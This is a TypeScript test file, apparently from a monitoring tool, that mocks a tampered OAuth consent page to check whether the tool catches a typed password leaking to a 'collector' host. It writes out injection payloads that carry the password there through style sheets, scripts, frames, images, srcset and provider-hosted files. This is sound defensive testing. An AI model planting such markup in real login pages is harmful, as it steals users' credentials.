import { type HttpHandler, http, type RequestHandler } from 'msw';
import { Html } from '../../core/base/html.ts';
import { accounts } from '../../core/targets/offline-accounts.ts';
import { accountCentral, signin } from '../../mocks/addresses.ts';
import { reworded } from '../../mocks/faults/changed.ts';
import { collector } from '../../mocks/faults/collector.ts';
import { page } from '../../mocks/page.ts';
import type { World } from '../../mocks/world.ts';
import { expect, testIn, tiers } from './test.ts';

const secrets = Object.values(accounts).flatMap(({ password }) => password);

/** The app's consent page once somebody has signed in, changed by a page's author who knows the password. */
function withConsent(change: (text: string, password: string) => string, gone: string[]) {
  return (world: World): RequestHandler[] => {
    let password = '';
    const handlers: HttpHandler[] = [
      http.all(`${collector}/*`, ({ request }) => {
        gone.push(request.url);
        return page('Thank you', new Html('<p>Thank you</p>'));
      }),
      http.post(`${signin}/login`, async ({ request }) => {
        password = new URLSearchParams(await request.clone().text()).get('password') ?? password;
        return world.asUsual(request);
      }),
      http.get(`${accountCentral}/app/oauth/authorize`, async ({ request }) =>
        reworded(await world.asUsual(request), (text) => (password === '' ? text : change(text, password))),
      ),
    ];
    return handlers;
  };
}

const intoHead = (markup: string) => (text: string) => text.replace('</head>', `${markup}</head>`);
const said = (password: string) => encodeURIComponent(password);

const ways = {
  'a style sheet': (text: string, password: string) =>
    intoHead(`<link rel="stylesheet" href="${collector}/a.css?p=${said(password)}">`)(text),
  'an import of a style sheet': (text: string, password: string) =>
    intoHead(`<style>@import "${collector}/b.css?p=${said(password)}";</style>`)(text),
  'a script': (text: string, password: string) =>
    intoHead(`<script src="${collector}/c.js?p=${said(password)}"></script>`)(text),
  'a frame': (text: string, password: string) =>
    text.replace('</main>', `</main><iframe src="${collector}/d?p=${said(password)}"></iframe>`),
  'a picture': (text: string, password: string) =>
    text.replace('</main>', `</main><img alt="" src="${collector}/e.png?p=${said(password)}">`),
};

for (const tier of tiers)
  for (const [what, change] of Object.entries(ways))
    testIn[tier](
      `${tier}: a password that ${what} would carry elsewhere is CRITICAL, and stays here`,
      async ({ watch, world }) => {
        const gone: string[] = [];
        world.break({ name: 'beside', what: 'a page hands on', handlers: withConsent(change, gone) });
        const { findings, mayBeTriedAgain } = await watch();
        expect(gone).toEqual([]);
        expect(findings[0]).toMatchObject({ class: 'login-changed', severity: 'CRITICAL' });
        expect(mayBeTriedAgain).toBe(false);
        for (const secret of secrets) expect(JSON.stringify(findings)).not.toContain(secret);
      },
    );

/** What is asked for by more than one step, which the HTTP tier takes; `asked.spec.ts` has all that the markup alone says. */
const furtherWays: Record<string, [markup: string, files?: Record<string, (password: string) => string>]> = {
  'a set of pictures': [`<img alt="" srcset="${collector}/f.png?p=PASSWORD 2x">`],
  'a style attribute': [`<p style="background: url('${collector}/g.png?p=PASSWORD')"></p>`],
  'a document in a frame': [`<iframe srcdoc="<img src='${collector}/h.png?p=PASSWORD'>"></iframe>`],
  'a sheet of the provider itself': [
    '<link rel="stylesheet" href="/own.css">',
    { '/own.css': (password) => `p { background: url(${collector}/i.png?p=${password}) }` },
  ],
  'a frame of the provider itself': [
    '<iframe src="/own-frame"></iframe>',
    {
      '/own-frame': (password) =>
        `<link rel="preload" as="image" imagesrcset="${collector}/j?p=${password}">`,
    },
  ],
  'a manifest of the provider itself': [
    '<link rel="manifest" href="/own.webmanifest">',
    { '/own.webmanifest': (password) => `{"icons":[{"src":"${collector}/k.png?p=${password}"}]}` },
  ],
};

function files(all: Record<string, (password: string) => string>, password: () => string): HttpHandler[] {
  return Object.entries(all).map(([path, text]) =>
    http.get(accountCentral + path, () => {
      const type = path.endsWith('.css') ? 'text/css' : 'text/html';
      return new Response(text(said(password())), { headers: { 'content-type': type } });
    }),
  );
}

for (const [what, [markup, beside = {}]] of Object.entries(furtherWays))
  testIn.http(`http: a password that ${what} would carry elsewhere is CRITICAL`, async ({ watch, world }) => {
    const gone: string[] = [];
    let typed = '';
    const change = (text: string, password: string) => {
      typed = password;
      return text.replace('</main>', `</main>${markup.replaceAll('PASSWORD', said(password))}`);
    };
    const handlers = (all: World) => [...files(beside, () => typed), ...withConsent(change, gone)(all)];
    world.break({ name: 'beside', what: 'a page hands on', handlers });
    const { findings } = await watch();
    expect(gone).toEqual([]);
    expect(findings[0]).toMatchObject({ class: 'login-changed', severity: 'CRITICAL' });
  });

testIn.http('http: frames deeper than anybody looks into need a browser', async ({ watch, world }) => {
  const deep = (text: string) => {
    let framed = '<p>deep</p>';
    for (let depth = 0; depth < 7; depth++)
      framed = `<iframe srcdoc="${framed.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}"></iframe>`;
    return text.replace('</main>', `</main>${framed}`);
  };
  world.break({ name: 'deep', what: 'a page has frames', handlers: withConsent(deep, []) });
  const { findings } = await watch();
  expect(findings).toMatchObject([
    { class: 'inconclusive', message: expect.stringMatching(/needs a browser.*more beside it/) },
  ]);
});

testIn.http('what a page would have sent when nobody looked any more is told as well', async ({ input }) => {
  const { check } = await import('../../core/canary/check.ts');
  const { UntrustedPlace } = await import('../../core/credentials/may-go.ts');
  const late = new UntrustedPlace(
    'collect.example.net',
    'the password would have gone to collect.example.net',
  );
  const openVisitor: typeof input.openVisitor = async (name) => {
    const visitor = await input.openVisitor(name);
    const close = () => visitor.close().then(() => late);
    return {
      ...{
        open: (url) => visitor.open(url),
        logIn: (login) => visitor.logIn(login),
        allow: () => visitor.allow(),
      },
      ...{ goOnAs: (who, nth) => visitor.goOnAs(who, nth), useAnother: () => visitor.useAnother() },
      ...{ trail: () => visitor.trail(), addresses: () => visitor.addresses(), close },
    };
  };
  const { findings, mayBeTriedAgain } = await check({ ...input, openVisitor });
  expect(findings).toContainEqual(expect.objectContaining({ class: 'login-changed', severity: 'CRITICAL' }));
  expect(findings).not.toContainEqual(expect.objectContaining({ class: 'ok' }));
  expect(mayBeTriedAgain).toBe(false);
});
